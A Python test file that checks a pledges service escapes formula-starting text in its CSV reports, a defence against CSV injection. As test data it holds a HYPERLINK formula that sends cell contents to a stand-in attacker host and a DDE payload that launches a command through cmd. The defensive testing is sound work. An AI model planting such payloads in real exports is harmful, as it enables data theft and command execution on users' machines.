"""Text a spreadsheet would run as a formula (OWASP "CSV injection": a cell beginning with
= + - @, a tab or a carriage return) is written in the needs and pledges CSV reports behind a
single quote; numbers, negative ones among them, stay as they are; the JSON keeps the text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from shared import hxl
from shared.auth import Role
from tests.pledges.conftest import GENERATORS_NEED, PledgesApi, generators_pledge

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


async def table(api: PledgesApi, report: str) -> list[dict[str, str]]:
    answer = await api.client.get(
        f"/v1/reports/{report}",
        params={"format": "csv"},
        headers=await api.as_("bucha", Role.MEMBER),
    )
    assert answer.status_code == 200, answer.text
    header, _tags, *rows = list(csv.reader(io.StringIO(answer.text)))
    return [dict(zip(header, row, strict=True)) for row in rows]


async def test_formula_text_is_quoted_in_the_csv_reports(api: PledgesApi) -> None:
    await api.ok("/v1/needs", {**GENERATORS_NEED, "description": LINK}, by="kharkiv")
    pledge = generators_pledge()
    pledge["lines"][0]["item"] = CALC
    await api.ok("/v1/pledges", pledge, by="lille")

    [need] = await table(api, "needs")
    assert need["Description"] == "'" + LINK
    [line] = await table(api, "pledges")
    assert line["Item"] == "'" + CALC
    assert line["Quantity"] == "100" and line["Estimated weight (kg)"] == "12000"
    # the JSON is not a spreadsheet: it keeps the text as given
    needs = await api.get("/v1/reports/needs")
    assert [r["description"] for r in needs["rows"]] == [LINK]


def test_only_text_cells_that_start_a_formula_are_quoted() -> None:
    for text in (LINK, CALC, "+cmd", "-2+3", "-", "\tx", "\rx", "=1"):
        assert hxl.cell(text) == "'" + text
        assert hxl.cell([text, "b"]) == f"'{text}; b"
    for kept in ("-20000.00", "+3", "-1.5E+3", "2023-02-22", "a=b", " =x", "lille"):
        assert hxl.cell(kept) == kept
    assert [hxl.cell(v) for v in (-5, Decimal("-2.50"), -0.5, True, None)] == [
        "-5",
        "-2.50",
        "-0.5",
        "true",
        "",
    ]
